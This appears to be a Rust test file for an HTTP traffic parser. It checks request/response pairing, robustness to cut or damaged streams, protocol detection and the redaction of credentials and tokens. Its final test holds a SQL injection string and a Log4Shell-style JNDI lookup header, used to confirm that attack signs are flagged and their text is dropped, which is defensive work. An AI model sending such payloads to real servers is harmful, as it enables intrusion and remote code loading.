use super::*;
use crate::proto::drive;
use crate::proto::kit::{probed, rows, rows_cut, said};
use proptest::prelude::*;

const TCP: u8 = 6;

const GET: &[u8] = b"GET /a/b.exe?user=joe&token=s3cret&flag HTTP/1.1\r\nHost: Download.Example.COM:8080\r\n\
    User-Agent: probe/1.0\r\nReferer: https://joe:pw@ref.example/x/y?secret=1#z\r\nCookie: a=1; b=2\r\n\
    Authorization: Basic am9lOnMzY3JldA==\r\n\r\n";
const OK: &[u8] = b"HTTP/1.1 200 OK\r\nServer: srv/2\r\nContent-Type: text/plain\r\nContent-Length: 6\r\n\
    Content-Disposition: attachment; filename=\"b.exe\"\r\n\r\nMZ\x90\x00\x03\x00";
const POST: &[u8] = b"POST /up HTTP/1.1\r\nHost: 192.0.2.7\r\nContent-Type: application/json\r\n\
    Transfer-Encoding: chunked\r\n\r\n4;x=y\r\nabcd\r\n02\r\nef\r\n0\r\nTrailer: 1\r\n\r\n";
const CHUNKED: &[u8] =
    b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 302 Found\r\nLocation: //Other.Example:81/x?y\r\n\
    Transfer-Encoding: gzip, chunked\r\n\r\n5\r\n<html\r\n000A\r\n>123456789\r\n0\r\n\r\n";
const HEAD: &[u8] = b"HEAD /big HTTP/1.1\r\nHost: [2001:db8::1]:80\r\n\r\n";
const HEADED: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 1000000000\r\n\r\n";
const CLOSE: &[u8] = b"HTTP/1.0 404 Not Found\r\n\r\n%PDF-1.4 and so on";

fn exchange() -> Vec<(bool, &'static [u8])> {
    vec![
        (true, GET),
        (false, OK),
        (true, POST),
        (false, CHUNKED),
        (true, HEAD),
        (false, HEADED),
        (true, b"GET / HTTP/1.0\r\n\r\n"),
        (false, CLOSE),
    ]
}

fn cells(row: &Row<Said>) -> String {
    format!(" {} ", said::<Http>(row).join(" "))
}

#[track_caller]
fn has(row: &Row<Said>, parts: &[&str]) {
    let said = cells(row);
    for part in parts {
        assert!(said.contains(&format!(" {part} ")), "{part} in {said}");
    }
}

#[track_caller]
fn lacks(row: &Row<Said>, parts: &[&str]) {
    let said = cells(row);
    for part in parts {
        assert!(!said.contains(part), "{part} in {said}");
    }
}

#[test]
fn a_request_and_its_response_are_one_row_without_secrets() {
    let rows = rows::<Http>(TCP, 8_080, &exchange());
    assert_eq!(rows.len(), 4);
    has(
        &rows[0],
        &[
            "message=exchange",
            "method=GET",
            "host=download.example.com",
            "host_port=8080",
            "path=/a/b.exe",
            "query_bytes=26",
            "query_names=user,token",
            "version=1.1",
            "status=200",
            "reason=OK",
            "agent=probe/1.0",
            "referrer=https://ref.example/x/y",
            "server=srv/2",
            "content_type=text/plain",
            "content_length=6",
            "response_bytes=6",
            "request_bytes=0",
            "auth=basic",
            "user=joe",
            "login=success",
            "cookies=2",
            "proxied=false",
            "address_as_host=false",
            "body_kind=exe",
            "filename=b.exe",
            "latency_ns=1000000",
            "head_cut=false",
            "request_packet=1",
            "response_packet=2",
        ],
    );
    lacks(&rows[0], &["s3cret", "pw", "flag"]);
    has(
        &rows[1],
        &[
            "method=POST",
            "host=192.0.2.7",
            "address_as_host=true",
            "request_content_type=application/json",
            "request_bytes=6",
            "status=302",
            "location_host=other.example",
            "response_bytes=15",
            "body_kind=html",
            "cookies=0",
        ],
    );
    lacks(&rows[1], &["content_length=", "login="]);
    has(
        &rows[2],
        &["method=HEAD", "host=2001:db8::1", "host_port=80", "content_length=1000000000", "response_bytes=0"],
    );
    has(&rows[3], &["version=1.0", "status=404", "response_bytes=18", "body_kind=pdf", "path=/"]);
    assert!(rows.iter().all(|row| row.client_is_a));
}

fn without_time(rows: Vec<Row<Said>>) -> Vec<Said> {
    let forget = |row: Row<Said>| {
        let mut said = row.said;
        said.latency_ns = None;
        if let Some(request) = &mut said.request {
            (request.at, request.last_ns) = (Moment::default(), 0);
        }
        if let Some(response) = &mut said.response {
            response.at = Moment::default();
        }
        said
    };
    rows.into_iter().map(forget).collect()
}

#[test]
fn a_stream_is_the_same_however_it_is_cut() {
    let whole = without_time(rows::<Http>(TCP, 80, &exchange()));
    for most in [1, 2, 3, 5, 7, 16, 40, 150] {
        assert_eq!(without_time(rows_cut::<Http>(80, &exchange(), most)), whole, "{most}");
    }
}

#[test]
fn requests_in_a_row_are_answered_in_order() {
    let ask = [&b"GET /1 HTTP/1.1\r\n\r\n"[..], b"HEAD /2 HTTP/1.1\r\n\r\n", b"\r\nGET /3 HTTP/1.1\r\n\r\n"]
        .concat();
    let answer = [
        &b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc"[..],
        b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n",
        b"HTTP/1.1 304 Not Modified\r\nContent-Length: 3\r\n\r\n",
    ]
    .concat();
    let rows = rows::<Http>(TCP, 80, &[(true, &ask), (false, &answer)]);
    assert_eq!(rows.len(), 3);
    for (row, parts) in
        rows.iter().zip([["path=/1", "status=200"], ["path=/2", "status=200"], ["path=/3", "status=304"]])
    {
        has(row, &parts);
    }
}

#[test]
fn each_direction_alone_says_what_can_be_said() {
    let alone = rows::<Http>(TCP, 80, &[(true, GET), (true, GET)]);
    assert_eq!(alone.len(), 2);
    has(&alone[0], &["message=request"]);
    lacks(&alone[0], &["status=", "login=", "response_bytes="]);
    let alone = rows::<Http>(TCP, 80, &[(false, OK), (false, HEADED), (false, OK)]);
    assert_eq!(alone.len(), 3);
    has(&alone[1], &["message=response", "version=1.1", "status=200", "response_bytes=0"]);
    assert!(alone.iter().all(|row| row.client_is_a));
    let turned = rows::<Http>(TCP, 80, &[(true, OK)]);
    assert!(!turned[0].client_is_a);
}

#[test]
fn logins_that_fail_are_told_from_challenges() {
    let ask = |auth: &str| format!("GET / HTTP/1.1\r\n{auth}\r\n").into_bytes();
    let answer = |more: &str| format!("HTTP/1.1 401 No\r\nContent-Length: 0\r\n{more}\r\n").into_bytes();
    let lines = [
        (true, ask("")),
        (false, answer("WWW-Authenticate: Basic realm=\"x\"\r\n")),
        (true, ask("Authorization: Basic am9lOngK\r\n")),
        (false, answer("")),
        (true, ask("Authorization: NTLM TlRMTVNTUAABAAAA\r\n")),
        (false, answer("WWW-Authenticate: NTLM TlRMTVNT\r\n")),
        (true, ask("Authorization: Digest realm=\"r, s\", username=\"ann\"\r\n")),
        (false, answer("")),
        (true, ask("Authorization: Secret-Word-Alone\r\n")),
        (false, b"HTTP/1.1 500 No\r\nContent-Length: 0\r\n\r\n".to_vec()),
    ];
    let lines: Vec<_> = lines.iter().map(|(from_a, bytes)| (*from_a, &bytes[..])).collect();
    let rows = rows::<Http>(TCP, 80, &lines);
    lacks(&rows[0], &["auth=", "login="]);
    has(&rows[1], &["auth=basic", "user=joe", "login=failure"]);
    has(&rows[2], &["auth=ntlm"]);
    lacks(&rows[2], &["login="]);
    has(&rows[3], &["auth=digest", "user=ann", "login=failure"]);
    has(&rows[4], &["auth=other"]);
    lacks(&rows[4], &["login=", "user=", "Secret"]);
}

/// Tells a parser these pieces; the answer is what it wanted last, its service, and its rows.
fn told(pieces: &[(bool, &[u8], u32, u32)]) -> (Next, Option<&'static str>, Vec<Row<Said>>) {
    let flow = drive::flow(TCP, 40_000, 80);
    let (mut rows, mut known) = (Vec::new(), crate::proto::Known::default());
    let mut budget = crate::proto::Budget::new(1);
    let mut parser = Http::default();
    let mut next = Next::More;
    for &(from_a, bytes, missing, cut) in pieces {
        let mut out = Out::new(&flow, Some(&mut rows), &mut known, &mut budget);
        let at = Moment { time_ns: 1, number: 1, input: 0 };
        next = parser.push(&Piece { key: &flow.key, from_a, at, bytes, missing, cut, icmp: None }, &mut out);
        if next != Next::More {
            break;
        }
    }
    let mut out = Out::new(&flow, Some(&mut rows), &mut known, &mut budget);
    if next != Next::Done {
        parser.drain(&mut out);
    }
    (next, known.service, rows)
}

#[test]
fn behind_a_tunnel_or_another_protocol_it_hears_no_more() {
    let (next, _, rows) = told(&[
        (true, b"CONNECT mail.example:443 HTTP/1.1\r\nHost: mail.example:443\r\n\r\n", 0, 0),
        (false, b"HTTP/1.1 200 Connection established\r\n\r\n", 0, 0),
    ]);
    assert_eq!((next, rows.len()), (Next::Again, 1));
    has(
        &rows[0],
        &["method=CONNECT", "path=mail.example:443", "host=mail.example", "host_port=443", "proxied=true"],
    );
    let (next, service, rows) = told(&[
        (true, b"GET / HTTP/1.1\r\nUpgrade: h2c\r\n\r\n", 0, 0),
        (false, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n", 0, 0),
    ]);
    assert_eq!((next, service, rows.len()), (Next::Done, Some("http2"), 1));
    let (next, service, rows) = told(&[(true, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 0, 0)]);
    assert_eq!((next, service, rows.len()), (Next::Done, Some("http2"), 0));
}

#[test]
fn lost_bytes_inside_a_body_do_no_harm_and_elsewhere_the_next_message_is_found() {
    let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nabcd";
    let next = b"HTTP/1.1 204 No\r\n\r\n";
    let get = b"GET /1 HTTP/1.1\r\n\r\n";
    let (_, _, rows) = told(&[
        (true, get, 0, 0),
        (false, answer, 0, 900),
        (false, &[b'x'; 96], 900, 0),
        (true, get, 0, 0),
        (false, next, 0, 0),
    ]);
    has(&rows[0], &["status=200", "response_bytes=1000", "body_kind=text"]);
    has(&rows[1], &["status=204", "message=exchange"]);
    let (_, _, rows) =
        told(&[(true, get, 0, 0), (true, get, 0, 0), (false, b"xyz", 5_000, 0), (false, next, 0, 0)]);
    has(&rows[0], &["message=request"]);
    has(&rows[1], &["message=exchange", "status=204"]);
    let (_, _, rows) = told(&[
        (true, b"GET /index.html?a=1 HTTP/1.1\r\nHost: a.exam", 0, 200),
        (false, &answer[..30], 0, 1_000),
        (true, get, 200, 0),
    ]);
    has(&rows[0], &["message=exchange", "head_cut=true", "path=/index.html", "status=200"]);
    lacks(&rows[0], &["host=", "request_bytes=", "response_bytes="]);
    has(&rows[1], &["message=request", "head_cut=false"]);
}

#[test]
fn it_is_known_by_content_on_any_port_and_its_kin_are_not_it() {
    for bytes in [
        GET,
        OK,
        POST,
        CHUNKED,
        b"PRI * HTTP/2.0\r\n\r\n",
        b"ICY 200 OK\r\nicy-name: x\r\n",
        b"GET http://a.example/ HTTP/1.1\r\n",
        b"FROB /x HTTP/1.1\r\n",
        b"GET    /a b HTTP/1.0\r\n",
        b"OPTIONS * HTTP/1.1\r\n",
    ] {
        assert_eq!(probed::<Http>(TCP, 4_444, bytes), Probe::Yes, "{}", bytes.escape_ascii());
        assert_eq!(probed::<Http>(17, 80, bytes), Probe::No);
        for end in 1..12 {
            assert_ne!(
                probed::<Http>(TCP, 4_444, &bytes[..end]),
                Probe::No,
                "{}",
                bytes[..end].escape_ascii()
            );
        }
    }
    for bytes in [
        &b"INVITE sip:bob@example.org SIP/2.0\r\n"[..],
        b"OPTIONS sip:x SIP/2.0\r\n\r\n",
        b"SIP/2.0 200 OK\r\n",
        b"OPTIONS rtsp://a/ RTSP/1.0\r\n",
        b"RTSP/1.0 200 OK\r\n",
        b"SSH-2.0-OpenSSH_9.6\r\n",
        b"USER joe\r\n",
        b"GET key\r\n",
        b"get key\r\n",
        b"EHLO mail.example\r\n",
        b"220 ftp ready\r\n",
        b"*1\r\n$4\r\nPING\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc",
        b"HTTP/2.0 200 OK\r\n",
        b"NICK joe\r\n",
        b"a001 LOGIN joe pw\r\n",
        b"<html><body>GET / HTTP/1.1\r\n",
        b"REQMOD icap://a/ ICAP/1.0\r\n",
    ] {
        assert_eq!(probed::<Http>(TCP, 80, bytes), Probe::No, "{}", bytes.escape_ascii());
    }
}

#[test]
fn what_never_ends_is_bounded() {
    let endless = [&b"GET / HTTP/1.1\r\nHost: a.example\r\n"[..], &b"X: y\r\n".repeat(20_000)].concat();
    let lines = [(true, &endless[..]), (true, GET)];
    for rows in [rows::<Http>(TCP, 80, &lines), rows_cut::<Http>(80, &lines[..1], 1_000)] {
        has(&rows[0], &["head_cut=true", "host=a.example"]);
    }
    let asks: Vec<_> = (0..1_000).map(|_| (true, GET)).collect();
    assert_eq!(rows::<Http>(TCP, 80, &asks).len(), 1_000);
    let sizes: [&[u8]; 4] = [b"-1", b"18446744073709551616", b"0x10", b"+5"];
    for size in sizes {
        let answer = [&b"HTTP/1.1 200 OK\r\nContent-Length: "[..], size, b"\r\n\r\nabc"].concat();
        let rows = rows::<Http>(TCP, 80, &[(false, &answer)]);
        has(&rows[0], &["response_bytes=3"]);
        lacks(&rows[0], &["content_length="]);
    }
    let chunked = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nabc";
    has(&rows::<Http>(TCP, 80, &[(false, chunked), (false, b"def")])[0], &["response_bytes=6"]);
    let broken = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n11111111111111111\r\nabc";
    has(&rows::<Http>(TCP, 80, &[(false, broken)])[0], &["response_bytes=0"]);
}

#[test]
fn words_that_may_be_secret_are_left_out_of_addresses() {
    let ask = b"GET http://ann:pw1@Host.example/a;JSESSIONID=4711/b?x=y HTTP/1.1\r\nReferer: /c;jsessionid=4711?pw1\r\n\r\n";
    let rows = rows::<Http>(TCP, 80, &[(true, ask)]);
    has(&rows[0], &["host=host.example", "path=/a;JSESSIONID=/b", "referrer=/c;jsessionid=", "proxied=true"]);
    lacks(&rows[0], &["pw1", "4711"]);
}

proptest! {
    #[test]
    fn any_bytes_are_heard(input in prop::collection::vec(any::<u8>(), 0..600)) {
        drive::hammer::<Http>(&input, &[80, 8080, 9]);
    }

    #[test]
    fn a_damaged_dialogue_is_heard(
        damage in prop::collection::vec((0usize..8, any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 0..12),
        lost in prop::collection::vec((0u32..3, 0u32..3), 8),
    ) {
        let mut lines: Vec<_> = exchange().into_iter().map(|(from_a, bytes)| (from_a, bytes.to_vec())).collect();
        for (line, place, byte, way) in damage {
            let bytes = &mut lines[line].1;
            let place = place.index(bytes.len());
            match way {
                0 => bytes[place] = byte,
                1 => bytes.insert(place, byte),
                _ => bytes.truncate(place.max(1)),
            }
        }
        let flow = drive::flow(TCP, 40_000, 80);
        let pieces = lines.iter().zip(&lost).map(|((from_a, bytes), (missing, cut))| {
            let (from_a, at) = (*from_a, Moment::default());
            Piece { key: &flow.key, from_a, at, bytes, missing: missing * 3, cut: cut * 9, icmp: None }
        });
        drive::show::<Http>(&drive::tell::<Http>(&flow, pieces));
    }
}

#[test]
fn signs_of_attacks_are_named_and_their_text_is_not_kept() {
    let bytes =
        b"GET /a?q=1'+union+select+s3cret,2-- HTTP/1.1\r\nHost: x\r\nX-Any: ${jndi:ldap://s3cret/a}\r\n\r\n";
    let rows = rows::<Http>(TCP, 8_080, &[(true, bytes)]);
    has(&rows[0], &["attack_signs=sql,template", "path=/a"]);
    lacks(&rows[0], &["s3cret"]);
}
